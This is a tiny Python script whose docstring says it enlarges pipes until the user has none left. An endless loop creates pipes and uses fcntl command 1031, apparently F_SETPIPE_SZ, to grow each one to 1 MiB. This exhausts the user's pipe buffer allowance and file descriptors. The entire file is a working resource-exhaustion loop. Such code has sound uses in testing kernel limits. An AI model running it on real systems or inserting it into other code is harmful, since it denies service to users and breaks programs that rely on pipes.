"""Enlarges pipes until the user may have no more."""

import fcntl
import os

while True:
    fcntl.fcntl(os.pipe()[1], 1031, 2**20)
